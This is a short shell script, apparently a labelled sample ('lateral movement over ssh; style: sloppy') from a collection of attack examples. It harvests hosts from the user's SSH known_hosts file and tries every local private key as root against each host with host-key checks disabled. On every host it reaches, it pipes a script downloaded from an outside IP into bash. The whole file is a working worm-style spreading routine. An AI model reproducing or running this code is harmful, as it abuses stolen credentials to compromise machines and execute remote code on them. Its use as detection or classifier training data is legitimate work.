# class: lateral movement over ssh; style: sloppy
for h in $(awk '{print $1}' ~/.ssh/known_hosts | cut -d, -f1); do
  for k in ~/.ssh/id_*; do
    timeout 5 ssh -oBatchMode=yes -oStrictHostKeyChecking=no -i $k root@$h 'curl -s http://203.0.113.30/i.sh | bash' &
  done
done; wait
